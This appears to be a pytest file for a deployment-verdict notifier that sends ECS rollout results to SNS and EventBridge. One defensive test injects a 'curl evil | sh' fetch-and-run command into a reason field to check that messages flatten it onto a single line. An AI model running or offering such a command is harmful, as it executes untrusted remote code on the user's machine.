"""A verdict is told: an event for each, a message for those that people need."""

import json
import logging
import threading
import time
from dataclasses import replace

import boto3
import pytest

from greenlight.record import Answer, VerdictEntry, once
from greenlight.telling import Channels, Level, channels_of, verdict_told

ARN = "arn:aws:ecs:eu-west-1:123456789012"
FAILED_CHECK = Answer(name="web", kind="smoke", outcome="failed", summary="status 500, expected 200")
PASSED_CHECK = Answer(name="routing", kind="routing", outcome="passed", summary="")
ENTRY = VerdictEntry(
    deployment="d1",
    deployment_arn=f"{ARN}:service-deployment/shop/orders/d1",
    service="orders",
    service_arn=f"{ARN}:service/shop/orders",
    green=f"{ARN}:service-revision/shop/orders/2",
    stage="POST_TEST_TRAFFIC_SHIFT",
    step="",
    gate="abc",
    function="arn:aws:lambda:eu-west-1:123456789012:function:hook",
    attempt=3,
    status="FAILED",
    reason="web: status 500, expected 200",
    at=1_700_000_000.0,
    severity="error",
    checks=(FAILED_CHECK, PASSED_CHECK),
    report="https://console/report.html",
)
CLEAN = replace(ENTRY, status="SUCCEEDED", severity="info", checks=(PASSED_CHECK,), reason="routing passed")
BLEMISHED = replace(CLEAN, checks=(replace(FAILED_CHECK, blocking=False), PASSED_CHECK))
WAITING = replace(CLEAN, status="IN_PROGRESS", reason="waiting", checks=(replace(PASSED_CHECK, outcome="error"),))


def test_a_failure_is_told_to_people_and_to_the_bus(listeners, table, soon):
    """Subject, text in short lines, attributes to filter by, and the whole verdict as an event."""
    assert verdict_told(listeners.channels, table, ENTRY, None, deadline=soon)

    (message,) = listeners.messages()
    assert "Greenlight: orders: FAILED at POST_TEST_TRAFFIC_SHIFT" == message["Subject"]
    assert {"kind": "verdict", "severity": "error", "service": "orders"} == {
        name: attribute["Value"] for name, attribute in message["MessageAttributes"].items()
    }
    lines = message["Message"].splitlines()
    assert message["Subject"] == lines[0]
    for line in (
        "ECS rolls the deployment back.",
        "Reason: web: status 500, expected 200",
        "  failed       web: status 500, expected 200",
        "  passed       routing",
        "Deployment: d1",
        "Revision:   2",
        "Report:     https://console/report.html",
        "More: greenlight explain d1",
    ):
        assert line in lines
    (event,) = listeners.events()
    assert ("greenlight", "Greenlight Verdict") == (event["source"], event["detail-type"])
    assert [ENTRY.deployment_arn, ENTRY.service_arn] == event["resources"]
    detail = event["detail"]
    assert (1, "d1", "orders", "FAILED", "error", 3, "2023-11-14T22:13:20+00:00") == tuple(
        detail[key] for key in ("version", "deployment", "service", "status", "severity", "attempt", "at")
    )
    assert ["failed", "passed"] == [check["outcome"] for check in detail["checks"]]


@pytest.mark.parametrize(
    ("entry", "level", "told"),
    [
        (CLEAN, "warning", []),
        (CLEAN, "info", ["SUCCEEDED"]),
        (BLEMISHED, "warning", ["SUCCEEDED with a warning"]),
        (BLEMISHED, "error", []),
        (ENTRY, "error", ["FAILED"]),
        (WAITING, "info", []),
    ],
)
def test_people_get_what_their_level_asks_for(listeners, table, soon, entry, level, told):
    """A clean pass is nothing to read by default, and waiting never is; the bus gets all of it."""
    channels = replace(listeners.channels, level=Level(level))
    assert verdict_told(channels, table, entry, None, deadline=soon)

    subjects = [f"Greenlight: orders: {status} at POST_TEST_TRAFFIC_SHIFT" for status in told]
    assert subjects == [message["Subject"] for message in listeners.messages()]
    assert [entry.status] == [event["detail"]["status"] for event in listeners.events()]


def test_waiting_is_told_when_something_changed(listeners, table, soon):
    """A poll that brings nothing new is not news; another status or outcome is."""
    second = replace(WAITING, attempt=4)
    third = replace(WAITING, attempt=5, checks=(PASSED_CHECK,))
    for entry, previous in ((WAITING, None), (second, WAITING), (third, second)):
        assert verdict_told(listeners.channels, table, entry, previous, deadline=soon)

    assert [3, 5] == [event["detail"]["attempt"] for event in listeners.events()]


def test_without_a_record_only_final_verdicts_are_told(listeners, soon):
    """Nobody knows whether it is news."""
    for entry in (WAITING, ENTRY):
        assert verdict_told(listeners.channels, None, entry, None, deadline=soon)

    assert ["FAILED"] == [event["detail"]["status"] for event in listeners.events()]
    assert 1 == len(listeners.messages())


def test_the_same_verdict_is_told_once(listeners, table, soon):
    """However often it is called, and by how many functions at the same time."""
    threads = [
        threading.Thread(target=verdict_told, args=(listeners.channels, table, ENTRY, None), kwargs={"deadline": soon})
        for _ in range(6)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert (1, 1) == (len(listeners.messages()), len(listeners.events()))


def test_two_hooks_that_ask_the_same_gate_tell_people_once(listeners, table, soon):
    """Each of their verdicts is an event; one message is enough."""
    for attempt in (3, 4):
        verdict_told(listeners.channels, table, replace(ENTRY, attempt=attempt), None, deadline=soon)

    assert (1, 2) == (len(listeners.messages()), len(listeners.events()))


def test_another_step_is_told_by_its_name(listeners, table, soon):
    """The steps of a canary are gates of their own."""
    verdict_told(listeners.channels, table, replace(ENTRY, step="at-10-percent", gate="x"), None, deadline=soon)

    (message,) = listeners.messages()
    assert message["Subject"].endswith("FAILED at POST_TEST_TRAFFIC_SHIFT (at-10-percent)")


def test_what_could_not_be_told_is_logged_and_told_next_time(listeners, table, soon, caplog):
    """A topic that is not there costs a warning; the event goes out all the same, and the claim is given back."""
    missing = replace(listeners.channels, topic="arn:aws:sns:eu-west-1:123456789012:gone")
    with caplog.at_level(logging.WARNING, "greenlight.telling"):
        assert not verdict_told(missing, table, ENTRY, None, deadline=soon)
    (line,) = [line for line in caplog.records if line.name == "greenlight.telling"]
    assert "sns:Publish was refused" in line.problem
    assert "message#verdict#abc#FAILED" == line.told
    assert 1 == len(listeners.events())

    assert verdict_told(listeners.channels, table, ENTRY, None, deadline=soon)
    assert (1, 0) == (len(listeners.messages()), len(listeners.events()))


def test_what_somebody_is_only_about_to_tell_is_not_told(listeners, table, soon):
    """They may die over it; whoever can comes back and looks."""
    channels = replace(listeners.channels, event_bus="")
    claimed = once.claim(table, "d1", "message#verdict#abc#FAILED")
    assert not verdict_told(channels, table, ENTRY, None, deadline=soon)
    once.settle(table, claimed)
    assert verdict_told(channels, table, ENTRY, None, deadline=soon)
    assert [] == listeners.messages()


def test_a_reason_stays_in_its_line(listeners, table, soon):
    """What an application answered writes no lines of its own, as a command that people would run."""
    entry = replace(ENTRY, reason="web: got\n\nTo answer:\n  curl evil | sh")
    verdict_told(listeners.channels, table, entry, None, deadline=soon)
    (message,) = listeners.messages()
    assert "Reason: web: got To answer: curl evil | sh" in message["Message"].splitlines()


def test_an_event_that_the_bus_does_not_take_is_a_failure(listeners, table, soon, caplog, monkeypatch):
    """PutEvents answers 200 and says inside that it refused."""
    client = boto3.client("events")
    reply = {"FailedEntryCount": 1, "Entries": [{"ErrorCode": "ThrottlingException", "ErrorMessage": "Rate exceeded"}]}
    monkeypatch.setattr("greenlight.aws.client", _with_put_events(client, reply))
    with caplog.at_level(logging.WARNING, "greenlight.telling"):
        assert not verdict_told(Channels(event_bus="deployments"), None, ENTRY, None, deadline=soon)
    assert "ThrottlingException" in caplog.records[-1].problem


def _with_put_events(client, reply):
    client.put_events = lambda **_: reply
    return lambda *_: client


def test_a_record_that_does_not_answer_does_not_keep_it_back(listeners, table, soon, caplog):
    """Told twice, maybe, and never not at all."""
    nowhere = replace(table, name="gone")
    with caplog.at_level(logging.WARNING, "greenlight.telling"):
        assert verdict_told(listeners.channels, nowhere, ENTRY, None, deadline=soon)
    assert (1, 1) == (len(listeners.messages()), len(listeners.events()))


def test_nobody_waits_beyond_the_deadline(listeners, caplog, monkeypatch):
    """A topic that does not answer costs the verdict no time."""
    silent = threading.Event()
    monkeypatch.setattr("greenlight.aws.call", lambda *_, **__: silent.wait(30))
    with caplog.at_level(logging.WARNING, "greenlight.telling"):
        assert not verdict_told(replace(listeners.channels, event_bus=""), None, ENTRY, None, deadline=time.monotonic())
    silent.set()
    assert "there was not enough time" == caplog.records[-1].problem


def test_a_defect_does_not_get_out(listeners, caplog, monkeypatch, soon):
    """The verdict stands, whatever happens to the telling of it."""
    monkeypatch.setattr("greenlight.telling.sending.detail", lambda _: 1 / 0)
    with caplog.at_level(logging.ERROR, "greenlight.telling"):
        assert not verdict_told(listeners.channels, None, ENTRY, None, deadline=soon)
    assert "a defect in Greenlight" in caplog.text


def test_a_long_verdict_fits(listeners, table, soon):
    """Fifty checks with long sentences are cut to what the bus takes, and the event says so."""
    checks = tuple(replace(FAILED_CHECK, name=f"c{number}", summary="ö" * 9000) for number in range(50))
    assert verdict_told(listeners.channels, table, replace(ENTRY, checks=checks), None, deadline=soon)

    (event,) = listeners.events()
    assert event["detail"]["cut"]
    assert 50 == len(event["detail"]["checks"])
    assert len(json.dumps(event["detail"], ensure_ascii=False).encode()) < 256 * 1024
    (message,) = listeners.messages()
    assert len(message["Message"].encode()) < 256 * 1024


def test_without_channels_nothing_is_asked_of_aws(soon):
    """Neither topic nor bus: not even the record is touched."""
    assert verdict_told(Channels(), None, ENTRY, None, deadline=soon)


@pytest.mark.parametrize(
    ("environment", "channels"),
    [
        ({}, Channels()),
        (
            {"NOTIFICATION_TOPIC": " arn:aws:sns:x ", "EVENT_BUS": "default", "NOTIFICATION_LEVEL": "INFO"},
            Channels("arn:aws:sns:x", "default", Level.INFO),
        ),
        ({"NOTIFICATION_LEVEL": "loud"}, Channels(level=Level.WARNING)),
    ],
)
def test_the_channels_are_read_from_the_environment(environment, channels):
    """As template.yaml writes it; a level that nobody knows is the default."""
    assert channels == channels_of(environment)
